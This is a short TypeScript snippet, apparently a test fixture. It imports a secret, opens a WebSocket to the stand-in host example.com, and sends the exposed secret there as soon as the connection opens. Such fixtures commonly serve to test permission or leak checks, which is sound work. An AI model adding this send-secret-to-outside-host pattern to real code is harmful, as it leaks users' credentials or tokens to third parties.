import { secret } from '../../secret.ts'
const socket = new WebSocket('wss://example.com')
socket.addEventListener('open', () => socket.send(JSON.stringify({ key: secret.expose() })))
